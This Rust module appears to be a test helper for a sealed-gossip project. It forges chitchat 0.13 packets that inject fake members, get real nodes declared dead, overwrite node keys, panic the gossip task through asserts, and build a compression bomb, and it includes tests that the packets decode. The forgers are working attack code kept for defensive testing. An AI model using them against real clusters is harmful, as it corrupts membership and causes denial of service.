//! A forger of chitchat packets: the packets an attacker would send, byte for byte as chitchat
//! writes them (ids, strings and integers through chitchat's own `Serializable`), plain or sealed
//! with a stolen key.
//!
//! Against plain chitchat 0.13 (all reproduced in tests/sealed_gossip.rs):
//! ```text
//! fake_members        make made-up nodes members, live when repeated with a growing heartbeat
//! heartbeat_bump      make a real node's real heartbeats look old: it is declared dead
//! key_overwrite       replace a real node's keys; receivers keep the forged values
//! version_above_max   panic the gossip task (assert in NodeState::apply_delta)
//! oversized_digest    panic the gossip task (assert in DeltaSerializer::with_mtu)
//! compression_bomb    make chitchat's decoder allocate about blocks x 1 MB
//! ```

use chitchat::{ChitchatId, ProtocolVersion};

use crate::wire::{
    delta_ops_bytes, encode, DeltaOp, DigestEntry, KeyValue, NodeDelta, WireBody, WireMessage, CHITCHAT_MAGIC,
};
use crate::Key;

/// Writes forged chitchat messages for one cluster id.
#[derive(Debug, Clone)]
pub struct Forger {
    /// The cluster id the victims use (sent in clear by unsealed chitchat).
    pub cluster_id: String,
    /// The protocol version of the messages (senti uses V0).
    pub version: ProtocolVersion,
}

impl Forger {
    /// A forger for `cluster_id`, writing protocol V0.
    pub fn new(cluster_id: &str) -> Forger {
        Forger { cluster_id: cluster_id.to_owned(), version: ProtocolVersion::V0 }
    }

    fn bytes(&self, body: WireBody) -> Vec<u8> {
        let mut out = Vec::new();
        encode(&WireMessage { version: self.version, body }, &mut out);
        out
    }

    /// A Syn with `digest`: with an empty one, the receiver answers with everything it holds.
    pub fn syn(&self, digest: Vec<DigestEntry>) -> Vec<u8> {
        self.bytes(WireBody::Syn { cluster_id: self.cluster_id.clone(), digest })
    }

    /// A SynAck announcing `members` with `keys` (versions 1..=n). Receivers add them as nodes
    /// with these keys; sent again with a growing `heartbeat`, they become live.
    pub fn fake_members(&self, members: &[ChitchatId], keys: &[(&str, &str)], heartbeat: u64) -> Vec<u8> {
        let digest = members
            .iter()
            .map(|id| DigestEntry { id: id.clone(), heartbeat, last_gc_version: 0, max_version: keys.len() as u64 })
            .collect();
        let delta = members.iter().map(|id| node_delta(id, keys, 1)).collect();
        self.bytes(WireBody::SynAck { digest, delta })
    }

    /// A Syn claiming `target`'s heartbeat is `heartbeat`: far ahead, the target's real
    /// heartbeats look old and it is declared dead.
    pub fn heartbeat_bump(&self, target: &ChitchatId, heartbeat: u64) -> Vec<u8> {
        let digest = vec![DigestEntry { id: target.clone(), heartbeat, last_gc_version: 0, max_version: 0 }];
        self.bytes(WireBody::Syn { cluster_id: self.cluster_id.clone(), digest })
    }

    /// An Ack setting `target`'s `keys` at versions from `version` on (above what it wrote, so
    /// receivers keep the forged values).
    pub fn key_overwrite(&self, target: &ChitchatId, keys: &[(&str, &str)], version: u64) -> Vec<u8> {
        self.bytes(WireBody::Ack { delta: vec![node_delta(target, keys, version)] })
    }

    /// An Ack with a key-value above its node delta's max version: chitchat 0.13 applies the key,
    /// then `assert!(node_delta.max_version >= self.max_version)` panics the gossip task.
    pub fn version_above_max(&self, target: &ChitchatId) -> Vec<u8> {
        let ops = vec![
            DeltaOp::KeyValue(KeyValue { key: "ready".into(), value: "false".into(), version: 1 << 20, status: 0 }),
            DeltaOp::SetMaxVersion(1 << 19),
        ];
        let delta = vec![NodeDelta { id: target.clone(), last_gc_version: 0, from_version_excluded: 0, ops }];
        self.bytes(WireBody::Ack { delta })
    }

    /// A Syn whose compressed (V1) digest names `count` made-up nodes: the receiver creates them
    /// all, its own digest outgrows a datagram and `DeltaSerializer::with_mtu` asserts.
    pub fn oversized_digest(&self, count: usize) -> Vec<u8> {
        let digest = (0..count)
            .map(|i| DigestEntry {
                id: ChitchatId::new(
                    format!("forged-{i:06}-{}", "x".repeat(96)),
                    1,
                    ([10, 0, (i >> 8) as u8, i as u8], 7280).into(),
                ),
                heartbeat: 1,
                last_gc_version: 0,
                max_version: 0,
            })
            .collect();
        let mut out = Vec::new();
        let body = WireBody::Syn { cluster_id: self.cluster_id.clone(), digest };
        encode(&WireMessage { version: ProtocolVersion::V1, body }, &mut out);
        out
    }

    /// An Ack whose delta stream is `blocks` zstd blocks of about 64 KiB of set-max-version ops
    /// each (about 20 bytes on the wire per block): chitchat's decoder builds every op first.
    pub fn compression_bomb(&self, blocks: usize) -> Vec<u8> {
        let target = ChitchatId::new("bomb".to_owned(), 1, ([10, 0, 0, 1], 7280).into());
        let mut first = Vec::new();
        let node = vec![NodeDelta { id: target, last_gc_version: 0, from_version_excluded: 0, ops: vec![] }];
        delta_ops_bytes(&node, &mut first);
        let op: [u8; 9] = [2, 1, 0, 0, 0, 0, 0, 0, 0];
        let ops: Vec<u8> = op.iter().copied().cycle().take(op.len() * 7_281).collect();
        first.extend_from_slice(&ops[..ops.len() - first.len().next_multiple_of(op.len())]);
        let frame_of = |raw: &[u8]| zstd::bulk::compress(raw, 19).unwrap_or_default();
        let (first_frame, frame) = (frame_of(&first), frame_of(&ops));
        let mut out = vec![];
        out.extend_from_slice(&CHITCHAT_MAGIC.to_le_bytes());
        out.push(self.version.to_code());
        out.push(2);
        for (index, frame) in
            std::iter::once(&first_frame).chain(std::iter::repeat_n(&frame, blocks.saturating_sub(1))).enumerate()
        {
            if index >= blocks {
                break;
            }
            out.push(1);
            out.extend_from_slice(&(frame.len() as u16).to_le_bytes());
            out.extend_from_slice(frame);
        }
        out.push(0);
        out
    }

    /// `message` sealed with `key` now, as a member holding the key would send it.
    pub fn seal(key: &Key, message: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        // A broken random source in a test run is not worth a Result here.
        crate::seal::seal(key, crate::unix_ms_now(), message, &mut out).expect("the OS random source works in tests");
        out
    }
}

fn node_delta(id: &ChitchatId, keys: &[(&str, &str)], first_version: u64) -> NodeDelta {
    let ops = keys
        .iter()
        .zip(first_version..)
        .map(|((key, value), version)| {
            DeltaOp::KeyValue(KeyValue { key: (*key).to_owned(), value: (*value).to_owned(), version, status: 0 })
        })
        .collect();
    NodeDelta { id: id.clone(), last_gc_version: 0, from_version_excluded: 0, ops }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::wire::{decode, DecodeLimits, MAX_UDP_PAYLOAD};

    #[test]
    fn every_forged_packet_fits_one_datagram_and_decodes_like_chitchat_would() {
        let forger = Forger::new("senti-0123456789abcdef");
        let target = ChitchatId::new("node-a".to_owned(), 1, ([127, 0, 0, 1], 7001).into());
        let limits = DecodeLimits::OWN_MESSAGES;
        for packet in [
            forger.fake_members(std::slice::from_ref(&target), &[("ready", "true")], 3),
            forger.heartbeat_bump(&target, 1 << 40),
            forger.key_overwrite(&target, &[("ready", "false")], 1 << 30),
            forger.version_above_max(&target),
            forger.oversized_digest(3_000),
        ] {
            assert!(packet.len() <= MAX_UDP_PAYLOAD, "{}", packet.len());
            decode(&packet, &limits).unwrap();
        }
        let version_above_max = forger.version_above_max(&target);
        assert!(version_above_max.len() < 130, "{}", version_above_max.len());
    }

    #[test]
    fn the_bomb_is_small_on_the_wire_and_large_decompressed() {
        let bomb = Forger::new("c").compression_bomb(2_000);
        assert!(bomb.len() <= MAX_UDP_PAYLOAD, "{}", bomb.len());
        let wide = DecodeLimits { max_stream_bytes: usize::MAX, max_blocks: usize::MAX, max_items: usize::MAX };
        let small = Forger::new("c").compression_bomb(3);
        let message = decode(&small, &wide).unwrap();
        assert_eq!(message.delta()[0].ops.len(), 3 * 7_281 - 5);
    }
}
